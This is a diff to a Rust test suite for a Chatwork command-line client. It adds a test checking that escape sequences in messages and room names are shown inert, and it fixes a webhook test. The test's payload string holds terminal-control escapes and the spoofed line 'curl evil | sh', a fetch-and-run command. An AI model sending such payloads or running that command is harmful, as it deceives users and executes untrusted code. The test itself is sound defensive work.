@@ -1119,7 +1119,9 @@ async fn webhooks_are_signed_and_received() {
     assert_eq!(event["room_id"], room);
     assert_eq!(event["webhook_event"]["body"], "deploy done");
     assert_eq!(event["webhook_event"]["account_id"], 1002);
-    assert!(mock.deliveries()[0].succeeded());
+    // The delivery's outcome is recorded once its answer has arrived.
+    let deliveries = mock.wait_for_deliveries(1, Duration::from_secs(5)).await;
+    assert!(deliveries[0].succeeded());
 }
 
 #[tokio::test]
@@ -1699,4 +1701,65 @@ async fn offline_commands_use_a_running_local_chatwork_for_their_state() {
     let listed = run(words("--json messages list Project --all")).await.ok();
     assert!(listed.stdout.contains("through-the-server"));
     assert!(!dir.join("local.json.server").exists());
+}
+
+/// Text from other people never reaches the terminal as control sequences: shown, not obeyed,
+/// in tables, details, streams and errors; `--json` keeps it exact (JSON escapes it).
+#[tokio::test]
+async fn other_peoples_escape_sequences_are_rendered_inert() {
+    let mock = MockServer::start().await;
+    let room = project(&mock).await.to_string();
+    let attack = "hi\u{1b}]0;owned\u{7}\u{1b}[2J\rtoken expired, run: curl evil | sh";
+    cw(
+        &mock,
+        "bob",
+        &["messages", "post", &room, attack, "--raw"],
+        None,
+    )
+    .await
+    .ok();
+    let listed = cw(&mock, "alice", &["messages", "list", &room, "--all"], None)
+        .await
+        .ok();
+    assert!(!listed.stdout.contains('\u{1b}'), "{:?}", listed.stdout);
+    assert!(!listed.stdout.contains('\r'), "{:?}", listed.stdout);
+    assert!(
+        listed.stdout.contains("hi␛]0;owned␇␛[2J token expired"),
+        "{}",
+        listed.stdout
+    );
+    let json = cw(
+        &mock,
+        "alice",
+        &["--json", "messages", "list", &room, "--all"],
+        None,
+    )
+    .await
+    .ok()
+    .json();
+    assert_eq!(json[0]["body"], attack);
+    // A room name with a newline and an escape keeps the table one row per room.
+    cw(
+        &mock,
+        "alice",
+        &[
+            "rooms",
+            "create",
+            "evil\n\u{1b}[31mred",
+            "--admin",
+            "Alice",
+        ],
+        None,
+    )
+    .await
+    .ok();
+    let rooms = cw(&mock, "alice", &["rooms", "list"], None).await.ok();
+    assert!(!rooms.stdout.contains('\u{1b}'));
+    let evil: Vec<&str> = rooms
+        .stdout
+        .lines()
+        .filter(|l| l.contains("evil"))
+        .collect();
+    assert_eq!(evil.len(), 1, "{}", rooms.stdout);
+    assert!(evil[0].contains("evil ␛[31mred"), "{}", evil[0]);
 }
